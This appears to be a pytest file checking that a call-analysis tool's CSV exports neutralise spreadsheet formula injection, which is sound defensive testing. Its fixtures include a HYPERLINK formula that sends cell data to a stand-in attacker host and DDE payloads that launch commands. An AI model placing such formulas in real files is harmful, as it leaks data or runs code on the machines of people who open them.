"""No CSV callsift writes makes a spreadsheet run a formula a sheet or a call put in it."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from callsift.csvsafe import safe_cell
from callsift.export.tables import write_csv
from callsift.ingest.run import ingest_paths
from callsift.store import CaseStore

HOSTILE = {
    "caller": '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "receiver": "+cmd|' /C calc'!A0",
    "location": "@SUM(1)",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "Ref": "\t=cmd",
}


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("   =cmd", "'   =cmd"),
        ("-", "'-"),
        ("+7 903 555 17 08", "+7 903 555 17 08"),
        ("+79031234567", "+79031234567"),
        ("+7 (903) 555-17-08", "+7 (903) 555-17-08"),
        ("-2.5", "-2.5"),
        ("Буча", "Буча"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def _tables(path: Path) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
        }


def test_calls_and_numbers_csv_neutralise_every_formula_cell(tmp_path: Path) -> None:
    (tmp_path / "0001.wav").write_bytes(b"RIFF not really audio")
    sheet = tmp_path / "calls.csv"
    with open(sheet, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", *HOSTILE])
        writer.writerow(["0001.wav", *HOSTILE.values()])
    store = CaseStore(tmp_path / "case")
    try:
        ingest_paths(store, [tmp_path / "0001.wav"], [sheet])
        tables = _tables(write_csv(store, None, tmp_path / "tables.zip"))
    finally:
        store.close()
    (call,) = tables["calls.csv"]
    for field in ("location", "notes"):
        assert call[field] == "'" + HOSTILE[field]
    assert call["caller_raw"] == "'" + HOSTILE["caller"]
    assert call["receiver_raw"] == "'" + HOSTILE["receiver"]
    assert '"Ref": "\\t=cmd"' in call["extra"]
    numbers = {row["role"]: row["raw"] for row in tables["numbers.csv"]}
    assert numbers == {"caller": "'" + HOSTILE["caller"], "receiver": "'" + HOSTILE["receiver"]}
    for name, rows in tables.items():  # every cell of every table is safe as written
        assert all(safe_cell(value) == value for row in rows for value in row.values()), name
